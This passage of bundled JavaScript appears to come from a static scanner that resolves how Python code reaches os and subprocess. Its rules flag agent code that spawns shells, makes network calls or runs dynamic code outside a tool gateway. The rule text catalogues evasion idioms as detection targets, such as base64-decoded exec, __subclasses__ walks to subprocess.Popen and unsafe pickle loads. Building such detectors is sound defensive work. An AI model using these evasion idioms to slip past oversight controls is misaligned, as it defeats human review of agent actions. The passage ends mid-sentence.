  /** `sys.modules[__name__].os`, `getattr(sys.modules[__name__], "os")`: the file's global name, reached through `site`. */
  ownGlobal(module2, name2, site) {
    if (module2.members.length > 0) return void 0;
    const path2 = this.bindings.lookup(name2, site);
    return path2 && through({ ...path2, via: [...module2.via ?? [], ...path2.via ?? []].slice(0, MAX_HOPS) }, site);
  }
  /**
   * `vars(os)["system"]`, `os.__dict__["system"]`, `v["system"]` after `v = vars(os)`: a module's namespace read by key
   * (namespaceMember); `globals()["os"]`, `locals()["os"]`, `vars()["os"]`: the name itself.
   */
  namespaceEntry(node, depth) {
    const table = node.childForFieldName("value");
    const scoped = table?.type === "call" && namedChildrenOf(table).length === 0 ? this.scopeEntry(table, node.childForFieldName("subscript"), node) : void 0;
    return scoped ?? this.namespaceMember(table, node.childForFieldName("subscript"), node, depth);
  }
  /**
   * A member of a module's namespace dict (`vars(os)`, `os.__dict__`, or a name holding one: the path's last member is
   * `__dict__`), read by `key` as getattr reads it: a key not known here could be any member.
   */
  namespaceMember(table, key, site, depth) {
    const builtinsDict = table?.type === "identifier" && table.text === BUILTINS_NAME && !this.declared(BUILTINS_NAME, table);
    const namespace = builtinsDict ? { module: "builtins", members: [NAMESPACE] } : table ? this.resolve(table, table.text, depth + 1) : void 0;
    if (namespace?.members.at(-1) !== NAMESPACE) return void 0;
    return through(extend({ ...namespace, members: namespace.members.slice(0, -1) }, this.constants.stringOf(key) ?? ANY), site);
  }
  /** `[subprocess.run][0]`, `(subprocess.run,)[0]`: the element of a list or tuple written in place, by its index. */
  writtenEntry(node, depth) {
    const container = node.childForFieldName("value");
    const index = node.childForFieldName("subscript");
    const fromEnd = index?.type === "unary_operator" && index.text.startsWith("-") ? index.namedChild(0) : null;
    const written = fromEnd ?? index;
    if (container?.type !== "list" && container?.type !== "tuple" || written?.type !== "integer") return void 0;
    const entries = namedChildrenOf(container);
    const count = Number(written.text.replace(/_/g, ""));
    const position = fromEnd ? entries.length - count : count;
    const unknown = (fromEnd ? entries.slice(position) : entries.slice(0, position + 1)).some((e) => e.type === "list_splat");
    const entry = unknown || position < 0 ? void 0 : entries[position];
    return entry ? this.resolve(entry, entry.text, depth + 1) : void 0;
  }
  /** `globals()["os"]`, `globals().get("os")`: the name the key spells, where `site` is (the built-in not rebound here). */
  scopeEntry(table, key, site) {
    const fn = table.childForFieldName("function");
    if (!fn || !SCOPE_DICTS.has(fn.text) || namedChildrenOf(table).length > 0 || this.declared(fn.text, fn)) return void 0;
    const name2 = this.constants.stringOf(key);
    const path2 = name2 !== void 0 ? this.bindings.lookup(name2, site) : void 0;
    return path2 && through(path2, site);
  }
  /** `sys.modules["os"]`, `sys.modules.get("os")`: a loaded module looked up by its literal name (sys not rebound here). */
  loadedModule(node, table = node.childForFieldName("value"), key = node.childForFieldName("subscript")) {
    if (table?.text.replace(/\s+/g, "") !== "sys.modules" || this.declared("sys", table)) return void 0;
    if (key?.text === "__name__" && !this.declared("__name__", key)) return through({ module: OWN_MODULE2, members: [] }, node);
    const module2 = this.constants.stringOf(key);
    return module2 !== void 0 && this.filter.relevant(module2) ? through({ module: module2, members: [] }, node) : void 0;
  }
  /** A watched value stored in an attribute or container slot (`self.client`, `values["client"]`). */
  slot(node) {
    return slotValue(this.bindings, node, (n) => this.slotKey(n));
  }
  /** `type(self).X`: the slot `cls.X` of the instance's class (slotKey), in a file whose classes have attributes. */
  classSlot(node) {
    if (!this.bindings.slotRoots.has("cls") || !node.text.startsWith("type")) return void 0;
    const key = this.slotKey(node);
    return key?.startsWith("cls.") ? this.bindings.slotPath(key.split(".")) : void 0;
  }
  /** `self.client` \u2192 "self.client", `values["client"]` \u2192 "values.client"; undefined for anything else. */
  slotKey(node, depth = 0) {
    if (depth > MAX_RESOLVE_DEPTH) return void 0;
    if (node.type === "identifier") return node.text;
    if (node.type === "attribute") {
      const object = node.childForFieldName("object");
      const base = object && this.slotKey(object, depth + 1);
      const attribute = node.childForFieldName("attribute");
      if (base === "self" && attribute?.text === CLASS_ATTRIBUTE) return "cls";
      if (base && attribute?.text === DICT_ATTRIBUTE) return base;
      return base && attribute ? `${base}.${attribute.text}` : void 0;
    }
    if (node.type === "call" && node.childForFieldName("function")?.text === "type" && !this.bindings.names.has("type")) {
      const args2 = namedChildrenOf(node.childForFieldName("arguments"));
      if (args2.length === 1 && args2[0].type === "identifier" && args2[0].text === "self") return "cls";
    }
    if (node.type === "subscript") {
      const value = node.childForFieldName("value");
      const base = value && this.slotKey(value, depth + 1);
      const key = base && this.literalKey(node.childForFieldName("subscript"));
      return key !== void 0 ? `${base}.${key}` : void 0;
    }
    return void 0;
  }
  /** A container's key written as a literal: a string (or a string constant) that could be a name, or an integer (a list's index). */
  literalKey(node) {
    const key = node?.type === "integer" ? node.text : this.constants.stringOf(node);
    return key !== void 0 && /^[\w$]+$/.test(key) ? key : void 0;
  }
  /**
   * `{"run": subprocess.run}` held in `key`: the slot `key.run`, reached through its entry; `[subprocess.run]`,
   * `(subprocess.run,)`: the slot `key.0`, reached through the statement (`site`). Held by a name of the module's
   * scope (`anyKey`), its first watched value is also what a computed key reads (anyEntry), reached through the statement.
   */
  containerSlots(key, entries, site, anyKey) {
    for (const [entryKey, path2, pair] of entries) if (entryKey !== void 0) this.bindings.bindSlot(`${key}.${entryKey}`, through(path2, pair ?? site));
    if (anyKey && entries.length > 0) this.bindings.bindSlot(`${key}.${ANY_ENTRY}`, through(firstEntry(entries), site));
  }
  /** A function's returned value (factories.ts): a dict, list or tuple literal of watched values is the literal's (heldContainer), anything else what it resolves to. */
  returnedValue(node) {
    return CONTAINERS.has(node.type) ? heldContainer(this.containerEntries(node)) : this.resolve(node);
  }
  /**
   * A dict, list or tuple literal's watched values in order, by key: a dict's literal key (with its entry; the last
   * written under a key is its value, as Python reads it), a list's or tuple's index (after `*rest`, whose values are
   * not read, any index: EVERY_INDEX, `a, b = *x, os.system`). A dict's `**other` adds the entries of a literal it holds
   * (`{**{"r": subprocess.run}}`) or a module's namespace (`{**vars(os)}`: under NAMESPACE_ENTRY, the module, whose
   * members are the dict's other keys).
   */
  containerEntries(container, depth = 0) {
    const dictionary = container.type === "dictionary";
    const out2 = [];
    const at = /* @__PURE__ */ new Map();
    const put = (entry, key) => {
      if (dictionary && key !== void 0) {
        const earlier = at.get(key);
        if (earlier !== void 0) out2[earlier] = void 0;
        if (entry) at.set(key, out2.length);
      }
      if (entry) out2.push(entry);
    };
    let index = 0;
    for (const entry of container.namedChildren) {
      if (!entry || isComment(entry)) continue;
      if (entry.type === "list_splat") {
        index = void 0;
        continue;
      }
      if (dictionary && entry.type === "dictionary_splat") {
        const spread = namedChildrenOf(entry)[0];
        const value2 = spread && this.resolve(spread, spread.text, depth + 1);
        if (spread?.type === "dictionary") {
          for (const pair of namedChildrenOf(spread)) if (pair.type === "pair") put(void 0, this.literalKey(pair.childForFieldName("key")));
        }
        if (value2?.members.at(-1) === NAMESPACE) {
          const earlier = at.get(NAMESPACE_ENTRY);
          if (earlier !== void 0 && out2[earlier]) {
            out2[earlier] = [`${EARLIER_NAMESPACE}${earlier}>`, out2[earlier][1], void 0];
            at.delete(NAMESPACE_ENTRY);
          }
          put([NAMESPACE_ENTRY, through({ ...value2, members: value2.members.slice(0, -1) }, entry), void 0], NAMESPACE_ENTRY);
        } else if (value2?.properties) {
          for (const key of Object.keys(value2.properties)) if (key !== ANY_ENTRY) put([key, extend(value2, key), void 0], key);
        }
        continue;
      }
      if (dictionary && entry.type !== "pair") continue;
      const entryKey = dictionary ? this.literalKey(entry.childForFieldName("key")) : index === void 0 ? EVERY_INDEX : String(index++);
      const value = dictionary ? entry.childForFieldName("value") : entry;
      const path2 = value ? this.resolve(value, value.text, depth + 1) : void 0;
      put(path2 && [entryKey, path2, dictionary ? entry : void 0], entryKey);
    }
    return out2.filter((entry) => entry !== void 0);
  }
  /** `{k: v for k, v in vars(os).items()}`: a module's namespace copied by a comprehension is the namespace. */
  namespaceCopied(node, depth) {
    const body2 = node.childForFieldName("body");
    const clauses = namedChildrenOf(node).filter((child) => child.type === "for_in_clause");
    const loop = clauses.length === 1 ? clauses[0] : void 0;
    const targets = loop?.childForFieldName("left");
    const names = targets?.type === "pattern_list" || targets?.type === "tuple_pattern" ? namedChildrenOf(targets).map((name2) => name2.text) : [];
    if (!body2 || !loop || names.length !== 2 || body2.childForFieldName("key")?.text !== names[0] || body2.childForFieldName("value")?.text !== names[1]) return void 0;
    const namespace = this.namespaceItems(loop.childForFieldName("right"), depth);
    return namespace && through(namespace, node);
  }
  /** `vars(os).items()`, `os.__dict__.items()`: a module's namespace read as its items (the namespace path, else undefined). */
  namespaceItems(node, depth) {
    const fn = node?.type === "call" && namedChildrenOf(node).length === 0 ? node.childForFieldName("function") : null;
    const owner = fn?.type === "attribute" && fn.childForFieldName("attribute")?.text === "items" ? fn.childForFieldName("object") : null;
    const namespace = owner ? this.resolve(owner, owner.text, depth + 1) : void 0;
    return namespace?.members.at(-1) === NAMESPACE ? namespace : void 0;
  }
};
var NAMESPACE_ENTRY = PROTO;
function firstEntry(entries) {
  const [key, path2] = entries[0];
  return key === NAMESPACE_ENTRY || key?.startsWith(EARLIER_NAMESPACE) ? extend(path2, ANY) : path2;
}
var EARLIER_NAMESPACE = "<namespace ";
function heldContainer(entries) {
  if (entries.length === 0) return void 0;
  const held = entries.map(([key, path2, pair]) => [key, pair ? through(path2, pair) : path2]);
  return heldLiteral([[ANY_ENTRY, firstEntry(held)], ...held]);
}
var FUNCTIONS2 = /* @__PURE__ */ new Set(["function_definition", "lambda", "class_definition"]);
var DEFERRED = /* @__PURE__ */ new Set(["function_definition", "lambda"]);
function unconditional(definition) {
  const statement = definition.parent?.type === "decorated_definition" || definition.parent?.type === "expression_statement" ? definition.parent : definition;
  return statement.parent?.type === "module";
}
function factoryName2(value, past) {
  const fn = enclosing(value, FUNCTIONS2, past);
  if (fn?.type === "lambda") {
    const assignment = fn.parent;
    const name2 = assignment?.type === "assignment" && assignment.childForFieldName("right")?.id === fn.id ? assignment.childForFieldName("left") : null;
    return name2?.type === "identifier" && assignment.parent?.type === "expression_statement" && assignment.parent.parent?.type === "module" ? name2 : void 0;
  }
  if (fn?.type !== "function_definition") return void 0;
  const holder = fn.parent?.type === "decorated_definition" ? fn.parent.parent : fn.parent;
  return holder?.type === "module" ? fn.childForFieldName("name") ?? void 0 : void 0;
}
var CLASS_METHOD = /^@\s*(?:staticmethod|classmethod)\s*$/;
var PROPERTY = /^@\s*(?:functools\s*\.\s*)?(?:cached_)?property\s*$/;
function classMethod(value) {
  const near = enclosing(value, FUNCTIONS2);
  const fn = near ?? methodPast(value, classStatement, (member) => member.type === "decorated_definition" ? member.childForFieldName("definition") ?? void 0 : member.type === "function_definition" ? member : void 0);
  const name2 = fn?.type === "function_definition" ? fn.childForFieldName("name") : void 0;
  if (!name2) return void 0;
  const decorated2 = fn.parent?.type === "decorated_definition" ? fn.parent : void 0;
  const decorators = decorated2 ? decorated2.namedChildren.filter((c) => c?.type === "decorator").map((c) => c.text) : [];
  const returns = decorators.some((d) => CLASS_METHOD.test(d));
  const property = !returns && decorators.some((d) => PROPERTY.test(d));
  const instance2 = !returns && !property;
  if (instance2 && (decorators.length > 0 || DUNDER.test(name2.text))) return void 0;
  const classes = [];
  let owner;
  let body2 = (decorated2 ?? fn).parent;
  for (; classes.length < MAX_NESTED_CLASSES && body2?.type === "block" && body2.parent?.type === "class_definition"; ) {
    const definition = body2.parent;
    owner = definition.childForFieldName("name") ?? void 0;
    if (!owner) return void 0;
    classes.unshift(owner.text);
    const holder = definition.parent?.type === "decorated_definition" ? definition.parent.parent : definition.parent;
    if (holder?.type === "module") return { owner, slot: returns ? `${classes.join(".")}.${name2.text}` : `self.${name2.text}`, returns: returns || instance2, walked: !near, instance: instance2, ...!returns && classes.length === 1 ? { offered: `${owner.text}.${PROTOTYPE}.${name2.text}` } : {} };
    body2 = holder;
  }
  if (body2?.type !== "block" || body2.parent?.type !== "class_definition") return void 0;
  const outer = outerSlot(value, (top) => classStatement(top), (member) => classStatement(member)?.childForFieldName("name") ?? void 0);
  return outer && { owner: outer.owner, slot: returns ? outer.slot : `self.${name2.text}`, returns: returns || instance2, past: !instance2, instance: instance2 };
}
var DUNDER = /^__\w+__$/;
function sharedMethodNames(source) {
  const seen = /* @__PURE__ */ new Set();
  const shared = /* @__PURE__ */ new Set();
  for (const [, name2] of source.matchAll(FUNCTION_NAMES)) (seen.has(name2) ? shared : seen).add(name2);
  return (name2) => shared.has(name2);
}
var FUNCTION_NAMES = /\bdef[ \t]+(\w+)[ \t]*\(/g;
function placedFunction2(value) {
  const fn = value.parent;
  const holder = fn?.type === "lambda" ? fn.parent : void 0;
  if (holder?.type === "assignment") {
    const left = holder.childForFieldName("left");
    const attribute = left?.type === "attribute" ? left.childForFieldName("attribute") : null;
    return attribute && holder.childForFieldName("right")?.id === fn.id ? { fn, name: attribute.text } : void 0;
  }
  if (holder?.type !== "pair" || holder.childForFieldName("value")?.id !== fn.id || holder.parent?.type !== "dictionary" || holder.parent.parent?.type !== "assignment") return void 0;
  const key = holder.childForFieldName("key");
  const name2 = key?.type === "string" ? stringValue(key) : void 0;
  return name2 !== void 0 && /^\w+$/.test(name2) ? { fn, name: name2 } : void 0;
}
function offerMember(bindings, owner, name2, path2, instanceOnly) {
  bindings.offer(`${owner}.${PROTOTYPE}.${name2}`, path2);
  if (!instanceOnly) bindings.offer(`${owner}.${name2}`, path2);
}
function classAttribute(target, classes, bindings) {
  const object = target.childForFieldName("object");
  return object?.type === "identifier" && classes.has(object.text) && bindings.scopeOf(target) === bindings.scopes.rootId ? target.childForFieldName("attribute")?.text : void 0;
}
function classStatement(statement) {
  const definition = statement.type === "decorated_definition" ? statement.childForFieldName("definition") : statement;
  return definition?.type === "class_definition" ? definition : void 0;
}
var UNPOSITIONED = /* @__PURE__ */ new Set(["list_splat", "dictionary_splat", "keyword_argument"]);
var LAMBDA = /* @__PURE__ */ new Set(["lambda"]);
var PY_FACTORIES = { expressionBody: "lambda", fallback: PY_FALLBACK, ownerName: factoryName2, staticMethod: classMethod, sharedMethodNames, placedFunction: placedFunction2, functions: FUNCTIONS2, inPlace: LAMBDA, declaration: "function_definition" };
function projectImport2(node, moduleNode, module2, bindings, project2, scopeOf, unwatched) {
  for (const child of node.namedChildren) {
    if (child?.type === "wildcard_import") {
      for (const [name2, path3] of Object.entries(project2.exportsOf(module2))) {
        if (name2.startsWith("_")) continue;
        if (name2.includes(".")) bindings.bindSlot(name2, through(path3, node));
        else bindings.bind(scopeOf(), name2, through(path3, node), node.startIndex);
      }
      continue;
    }
    if (!child || child.id === moduleNode.id || child.type !== "dotted_name" && child.type !== "aliased_import") continue;
    const nameNode = child.type === "aliased_import" ? child.childForFieldName("name") : child;
    const local = child.type === "aliased_import" ? child.childForFieldName("alias") : child;
    if (!nameNode || !local) continue;
    const path2 = project2.lookup(module2, nameNode.text);
    if (path2) bindings.bind(scopeOf(), local.text, through(path2, node));
    else if (bindNamespace(bindings, local.text, membersOf(project2.exportsOf(module2), nameNode.text), node)) continue;
    else if (bindNamespace(bindings, local.text, project2.exportsOf(module2.endsWith(".") ? module2 + nameNode.text : `${module2}.${nameNode.text}`), node)) continue;
    else if (moduleNode.type === "dotted_name") unwatched?.push([scopeOf(), local.text, `${module2}.${nameNode.text.replace(/\s+/g, "")}`, node]);
  }
}
var pathOf = (dotted, site) => through({ module: dotted, members: [] }, site, false);
function hideImportedEvaluators(node, bindings, source) {
  const from = node.childForFieldName("module_name");
  for (const child of node.namedChildren) {
    if (!child || from && child.startIndex === from.startIndex) continue;
    const local = child.type === "aliased_import" ? child.childForFieldName("alias")?.text : child.type === "dotted_name" ? child.text.split(".").pop().trim() : void 0;
    if (local && BUILTIN_EVALUATORS.has(local)) {
      const scope = bindings.scopeOf(node);
      const from2 = hidesBuiltinFrom(child, source);
      if (!bindings.boundIn(scope, local) && from2 !== void 0) bindings.bind(scope, local, void 0, void 0, from2 || void 0);
    }
  }
}
function importedNames(node, moduleNode) {
  const out2 = [];
  for (const child of node.namedChildren) {
    if (!child || child.id === moduleNode.id || child.type !== "dotted_name" && child.type !== "aliased_import") continue;
    const nameNode = child.type === "aliased_import" ? child.childForFieldName("name") : child;
    const local = child.type === "aliased_import" ? child.childForFieldName("alias") : child;
    if (nameNode && local) out2.push([nameNode.text.replace(/\s+/g, ""), local.text]);
  }
  return out2;
}
function importStatement2(node, bindings, filter, imports, unwatched, project2) {
  let scope;
  const scopeOf = () => scope ??= bindings.scopeOf(node);
  if (node.type === "import_statement") {
    for (const child of node.namedChildren) {
      if (!child) continue;
      if (child.type === "dotted_name") {
        const dotted = child.text.replace(/\s+/g, "");
        if (!filter.relevant(dotted)) {
          if (!(project2 && bindNamespace(bindings, dotted, project2.exportsOf(dotted), node))) unwatched?.push([scopeOf(), dotted.split(".")[0], dotted.split(".")[0], node]);
          continue;
        }
        const top = dotted.split(".")[0];
        bindings.bind(scopeOf(), top, pathOf(top, node));
        imports.push({ start: child.startIndex, end: child.endIndex, module: dotted, star: false });
      } else if (child.type === "aliased_import") {
        const nameNode = child.childForFieldName("name");
        const alias = child.childForFieldName("alias");
        const dotted = nameNode?.text.replace(/\s+/g, "");
        if (!dotted || !alias) continue;
        if (!filter.relevant(dotted)) {
          if (!(project2 && bindNamespace(bindings, alias.text, project2.exportsOf(dotted), node))) unwatched?.push([scopeOf(), alias.text, dotted, node]);
          continue;
        }
        bindings.bind(scopeOf(), alias.text, pathOf(dotted, node));
        imports.push({ start: child.startIndex, end: child.endIndex, module: dotted, star: false });
      }
    }
    return;
  }
  const moduleNode = node.childForFieldName("module_name");
  if (!moduleNode) return;
  const module2 = moduleNode.text.replace(/\s+/g, "");
  if (moduleNode.type !== "dotted_name" || !filter.relevant(module2)) {
    if (project2) projectImport2(node, moduleNode, module2, bindings, project2, scopeOf, unwatched);
    else if (unwatched && moduleNode.type === "dotted_name") for (const [name2, local] of importedNames(node, moduleNode)) unwatched.push([scopeOf(), local, `${module2}.${name2}`, node]);
    return;
  }
  for (const child of node.namedChildren) {
    if (!child || child.id === moduleNode.id) continue;
    if (child.type === "wildcard_import") {
      if (!filter.relevant(module2)) continue;
      imports.push({ start: node.startIndex, end: node.endIndex, module: module2, star: true });
      for (const member of filter.explicitMembers(module2)) bindings.bind(scopeOf(), member, pathOf(`${module2}.${member}`, node), node.startIndex);
    } else if (child.type === "dotted_name" || child.type === "aliased_import") {
      const nameNode = child.type === "aliased_import" ? child.childForFieldName("name") : child;
      const local = child.type === "aliased_import" ? child.childForFieldName("alias") : child;
      if (!nameNode || !local) continue;
      const dotted = `${module2}.${nameNode.text.replace(/\s+/g, "")}`;
      if (!filter.relevant(dotted)) continue;
      bindings.bind(scopeOf(), local.text, pathOf(dotted, node));
      imports.push({ start: child.startIndex, end: child.endIndex, module: dotted, star: false });
    }
  }
}

// core/scan/python-edit.ts
var BINDING_TEXT = new RegExp(`\\bimport\\b|(?:Enum|Flag)\\b|\\bmodules\\s*\\.\\s*(?:update|setdefault|__setitem__)\\b|${UNSETTLED_EVALUATOR_TEXT.source}`);
var DEFINED2 = /\b(?:def|class)\s+([\p{L}_][\p{L}\p{N}_]*)/gu;
function reanalyzePython(state, change, tree, source, language, filter, withComments, timeLimitMs) {
  if (withComments !== state.withComments || DYNAMIC_TEXT.test(source) || filter.readsModuleAttribute?.(source)) return void 0;
  const hooks = IMPLICIT_METHOD_TEXT.test(source);
  const { bindings } = state;
  const known = knownIn(bindings, source);
  const deadline = new Deadline(timeLimitMs);
  let resolver;
  return reanalyzeRegion(state, change, tree, source, queryOf(language, PYTHON_QUERY, withComments), timeLimitMs, {
    block: "block",
    bindingText: BINDING_TEXT,
    binds: ({ locals, definitions }, holder) => (
      // A special method's returns are found over the whole file (python.ts implicitMethodReturns): an edit inside one, or defining one, is read whole.
      hooks && (inImplicitMethod(holder) || locals.some(([node, outer]) => outer && isImplicitMethod(identifierAt(source, node.startIndex)))) || locals.some(([node, outer]) => shadows2(bindings, identifierAt(source, node.startIndex)) || !outer && knownDefault(source, node, known) || outer && instanceSlots(bindings) && node.parent?.type === "class_definition") || definitions.some(([nameNode, value, steps]) => {
        const { name: name2, simple, mayResolve, assigned } = readDefinition(source, nameNode, value, known, steps);
        if (simple && (replaces(bindings, name2) || stringConstant(source, value))) return true;
        return mayResolve && (!steps || (resolver ??= new Resolver2(bindings, filter, source, state.constants, void 0, deadline)).assigned(assigned, steps) !== void 0);
      })
    ),
    definedNames: (text) => Array.from(text.matchAll(DEFINED2), (m) => m[1]),
    calledWithValue: (text, names) => calledWithValue(text, names, known),
    passingCall: (callee) => {
      const call2 = passingCall2(source, callee, known);
      return call2 && { name: call2.name, method: call2.sup };
    },
    makesFactory: (start3, end) => {
      const resolver2 = new Resolver2(bindings, filter, source, state.constants, void 0, deadline);
      return makesFactory(source, tree.rootNode, known, (node) => resolver2.returnedValue(node), PY_FACTORIES, start3, end);
    },
    callsOf: ({ callees, args: args2 }) => callsOf2(callees, args2, new Resolver2(bindings, filter, source, state.constants, void 0, deadline), known, source)
  });
}
function inImplicitMethod(node) {
  let n = node;
  for (let level = 0; n; level++, n = n.parent) {
    if (level >= MAX_WALK) return true;
    if (n.type === "function_definition" && isImplicitMethod(n.childForFieldName("name")?.text ?? "")) return true;
  }
  return false;
}

// core/scan/rules.ts
var MAX_CODE_CHARS_WRITTEN = String(MAX_CODE_CHARS).replace(/\B(?=(?:\d{3})+$)/g, ",");
var BYPASSED = "the tool gateway's policy, approvals, budgets, idempotency ledger and audit";
var ROUTE = "Route it through the tool gateway as a registered tool so policy, approvals, budgets, idempotency and audit apply. If this file IS the gateway's own implementation, list it under `scan.allow` in .flowgate.yml; for a one-off, add `# flowgate: ignore-boundary -- <reason>` (Python) or `// flowgate: ignore-boundary -- <reason>` (JS/TS) at the end of the line.";
var describe = (callee, target) => callee === target || callee === `new ${target}` ? `\`${callee}\`` : `\`${callee}\` (${target})`;
var shellCommand = defineRule({
  id: "scan/shell-command",
  severity: "error",
  category: "shell",
  summary: "Agent code starts a process or shell command directly instead of through the tool gateway.",
  help: `Starting processes (os.system, subprocess, pty, pexpect, asyncio/anyio/trio subprocesses (an event loop however got), webbrowser, pipes, distutils' spawn and a compiler's, the standard library's helpers (uuid's command output, multiprocessing's spawnv_passfds, test.support's script_helper), invoke, sh, child_process, cluster workers, cross-spawn, execa, shelljs, zx, node-pty, open, Bun.spawn, Bun's shell, Deno.Command; the boundary table below lists every member) from agent code bypasses ${BYPASSED}. ${ROUTE}`,
  message: (callee, target) => `${describe(callee, target)} starts a process directly, bypassing ${BYPASSED}.`
});
var networkCall = defineRule({
  id: "scan/network-call",
  severity: "error",
  category: "network",
  summary: "Agent code opens an HTTP or socket connection directly instead of through the tool gateway.",
  help: `Direct network calls (requests, httpx, urllib, http.client, aiohttp, socket connections and name lookups, ssl, fabric, websockets, websocket-client, gRPC channels, boto3 clients, logging's network handlers, fetch, WebSocket, XMLHttpRequest, ws, http/https, axios, got, node-fetch, undici, superagent, needle, ky, ssh2, Bun's and Deno's sockets, name lookups and clients; the boundary table below lists every member) from agent code bypass ${BYPASSED}. ${ROUTE}`,
  message: (callee, target) => `${describe(callee, target)} makes a network call directly, bypassing ${BYPASSED}.`
});
var modelSdk = defineRule({
  id: "scan/model-sdk",
  severity: "error",
  category: "model",
  summary: "Agent code calls a model provider's SDK directly instead of through the tool gateway.",
  help: `Calling model SDKs (OpenAI, Anthropic, Google, Cohere, Mistral, LiteLLM, the Vercel AI SDK, Ollama, Groq, Together, Replicate, Hugging Face Inference, Amazon Bedrock, Vertex AI, LangChain's model classes; the boundary table below lists every member) directly from agent code bypasses ${BYPASSED}, including model budgets. ${ROUTE}`,
  message: (callee, target) => `${describe(callee, target)} calls a model provider directly, bypassing ${BYPASSED}.`
});
var customBoundary = defineRule({
  id: "scan/custom",
  severity: "error",
  category: "custom",
  summary: "A boundary declared in .flowgate.yml (scan.custom) is crossed directly.",
  help: `A project-declared boundary (scan.custom in .flowgate.yml) is called directly, bypassing ${BYPASSED}. ${ROUTE}`,
  message: (message) => message
});
var boundaryImport = defineRule({
  id: "scan/boundary-import",
  severity: "warning",
  category: "custom",
  summary: "A module a boundary rule watches is imported; no call through it was found, but the rule asks to report the import.",
  help: `The module is imported by agent code. Even without a visible call it can be reached indirectly (passed around, called through reflection), bypassing ${BYPASSED}. ${ROUTE}`,
  message: (module2) => `\`${module2}\` is imported by agent code; the boundary rule for it reports the import itself.`
});
var starImport = defineRule({
  id: "scan/star-import",
  severity: "note",
  category: "scan",
  summary: "`from <watched module> import *` hides which names reach the outside world.",
  help: "A star import of a module the boundary scan watches makes every name ambiguous: only the members the rules list by name (os.system, pty.spawn, ...) are still recognised. Import the names explicitly so calls can be checked.",
  message: (module2) => `\`from ${module2} import *\`: only names the boundary rules list explicitly are recognised after a star import; import names explicitly.`
});
var dynamicCode = defineRule({
  id: "scan/dynamic-code",
  // An error, so the gate fails closed: code handed to the evaluator as a value (`exec(base64.b64decode(\u2026))`, `eval(atob(\u2026))`) can reach anything unseen.
  severity: "error",
  category: "scan",
  summary: "Agent code runs code the scan cannot read: exec, eval, compile, new Function, vm or a string timer given a value that is not a constant string; a module loaded by a name computed at run time; a file run by its path (runpy, a source loader); a pickle or other data naming functions loaded.",
  help: `Code handed to the language's evaluator as a string \u2014 Python's \`exec\`, \`eval\`, \`compile\`, the \`code\` module's \`runsource\`/\`runcode\`/\`push\`/\`compile_command\` and \`codeop\`'s compilers, string annotations evaluated (\`typing.get_type_hints\`, \`inspect.signature(f, eval_str=True)\`: each string annotation of the file scanned, its crossings reported where it stands), the debuggers', profilers' and timers' (\`pdb.run\`/\`runeval\`/\`runctx\`, \`profile\` and \`cProfile\`'s \`run\`/\`runctx\`, \`trace.Trace().run\`, \`timeit.timeit\`/\`repeat\`/\`Timer\`: statement and setup); JavaScript's \`eval\`, \`Function\`/\`new Function\` (also called through Reflect, \`Reflect.construct(Function, [code])\`, or reached through \`constructor\`: \`x.constructor.constructor(code)\`, \`(async () => {}).constructor(code)\`), \`vm.runInThisContext\`/\`runInNewContext\`/\`runInContext\`/\`compileFunction\`, \`new vm.Script\`, \`new vm.SourceTextModule\`, \`new Worker(code, { eval: true })\`, \`setTimeout\`/\`setInterval\` given a string, a CommonJS module compiled from a string (\`new Module(id)._compile(code, file)\`, \`Module.prototype._compile.call(m, code, file)\`), an inspector session's \`post("Runtime.evaluate", { expression })\` \u2014 runs with the agent's rights (a worker given a script not named as a JavaScript source, \`new Worker("./payload.txt")\`, is this error too), as does a file run or loaded by its path or name (\`runpy.run_path\`/\`run_module\`, \`SourceFileLoader\`, \`SourcelessFileLoader\`, \`ExtensionFileLoader\`, \`FileFinder\`, \`spec_from_file_location\`, a zip archive's \`zipimporter(\u2026).load_module\`, \`imp.load_source\`/\`load_compiled\`/\`load_dynamic\`/\`load_module\`, \`logging.config.fileConfig\` (it evaluates each handler's \`args\`), \`SOURCE_SUFFIXES.append(\u2026)\`: any file, whatever its name, even a constant path naming a project file (the finding shows the reviewer what runs; suppress it with a reason); a web worker's \`importScripts(url)\`, Node's module loader hooks \`register(specifier)\`, which run the module named and see every module loaded after it, Node's CommonJS loader driven by hand: its table of file kinds changed or called (\`require.extensions[".txt"] = require.extensions[".js"]\`, \`Module._extensions\`), \`new Module(id).load(f)\`, \`Module.runMain()\`, the test runner's \`run({ files })\`), an interactive interpreter reading a stream (\`require("repl").start()\`, Python's \`code.interact()\`, \`logging.config.listen()\`, which takes configurations from a socket, a debugger's prompt: \`breakpoint()\`, \`pdb.set_trace()\`), CPython's C API through \`ctypes.pythonapi\` (\`PyRun_SimpleString\`, \`PyImport_ImportModule\`), a native library loaded (\`ctypes.CDLL\`, \`cdll.LoadLibrary\`, \`cffi.FFI().dlopen\`, \`process.dlopen\`, \`Deno.dlopen\`, \`bun:ffi\`'s \`dlopen\`, a native addon required by its path: \`require("./build/Release/x.node")\`) and a pickle or other data that names functions loaded (\`pickle.loads\`/\`load\`/\`Unpickler\`, \`dill\`, \`joblib.load\`, \`cloudpickle\`, \`numpy.load(f, allow_pickle=True)\`, \`torch.load\` unless \`weights_only=True\`, \`shelve.open\`, \`jsonpickle.decode\`, \`pandas.read_pickle\`, PyYAML's \`unsafe_load\` and its full loaders handed over, \`yaml.load(s, Loader=yaml.Loader)\`, pickle's private and C loaders, \`ForkingPickler.loads\`: loading calls whatever function its data names), a code object read from bytes or made into a function (\`marshal.loads\`, \`types.CodeType\`, \`types.FunctionType\`), a loader class built on \`importlib.abc.SourceLoader\` made, a name resolved to a module's member that the scan cannot read (\`pydoc.locate(name)\`, logging's configurators' \`resolve\`, \`EntryPoint(n, name, g).load()\`; a constant name is that member), a builtin picked by a name read at run time (\`getattr(builtins, name)\`), which are always this error; so is a module loaded by a name the scan cannot read (\`require(n)\`, \`import(atob(\u2026))\`, \`process.getBuiltinModule(x)\`, \`__import__(b64decode(\u2026))\`, \`importlib.import_module(name)\`: any module, a shell or network one included), and Python's \`object.__subclasses__()\` (also \`().__class__.__base__.__subclasses__()\`: every class loaded, \`subprocess.Popen\` among them, picked by a name built at run time) \u2014 a name written as a path (\`require("./plugins/" + p)\`, \`path.join(__dirname, f)\`) or relative to a Python package (\`import_module(f".{name}", __package__)\`) names a project file, judged on its own, and is not (one the scan folds to a project path, \`require(path.join(__dirname, "x.txt"))\`, is judged as JavaScript whatever its name). Where the code is a constant the scan can read (a literal, literals joined, a string constant of the file; at most ${MAX_CODE_CHARS_WRITTEN} characters), it is scanned as code of the same language, ${MAX_CODE_DEPTH} levels deep at most, and each crossing in it is reported at the call ("It runs in the code passed to \`exec\`"). Where it is not 